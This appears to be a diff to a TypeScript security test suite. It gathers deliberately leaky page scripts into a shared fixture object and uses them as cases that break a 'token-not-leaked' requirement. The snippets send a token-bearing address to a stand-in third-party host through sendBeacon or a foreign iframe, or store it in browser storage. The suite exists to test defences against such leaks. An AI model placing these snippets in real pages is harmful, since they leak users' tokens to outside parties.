@@ -59,6 +59,17 @@ export const scriptedHandOver =
     },
   });
 
+/** Pages that hand over by script and leak, as real ones do: the address goes to somebody else, or stays in the browser. */
+export const leakyHandOvers: Readonly<
+  Record<'beacon' | 'foreignFrame' | 'localStorage', ReturnType<typeof scriptedHandOver>>
+> = {
+  beacon: scriptedHandOver(`navigator.sendBeacon('${third}/collect', JSON.stringify({ u }));`),
+  foreignFrame: scriptedHandOver(
+    `const f = document.createElement('iframe'); f.src = '${third}/frame?page=' + encodeURIComponent(u); document.documentElement.append(f);`,
+  ),
+  localStorage: scriptedHandOver(`localStorage.setItem('next', u);`),
+};
+
 const tokenNotLeaked: UndatedRequirement = requirement({
   id: 'token-not-leaked',
   level: 'should',
@@ -80,7 +91,7 @@ const tokenNotLeaked: UndatedRequirement = requirement({
   brokenBy: [
     {
       name: 'analytics-beacon',
-      change: scriptedHandOver(`navigator.sendBeacon('${third}/collect', JSON.stringify({ u }));`),
+      change: leakyHandOvers.beacon,
     },
     {
       name: 'analytics-blob',
@@ -102,9 +113,7 @@ const tokenNotLeaked: UndatedRequirement = requirement({
     },
     {
       name: 'foreign-frame',
-      change: scriptedHandOver(
-        `const f = document.createElement('iframe'); f.src = '${third}/frame?page=' + encodeURIComponent(u); document.documentElement.append(f);`,
-      ),
+      change: leakyHandOvers.foreignFrame,
     },
     {
       name: 'post-message-star',
@@ -112,7 +121,7 @@ const tokenNotLeaked: UndatedRequirement = requirement({
     },
     {
       name: 'token-in-local-storage',
-      change: scriptedHandOver(`localStorage.setItem('next', u);`),
+      change: leakyHandOvers.localStorage,
     },
     { name: 'token-in-session-storage', change: scriptedHandOver('sessionStorage.next = u;') },
     { name: 'token-in-window-name', change: scriptedHandOver('window.name = u;') },
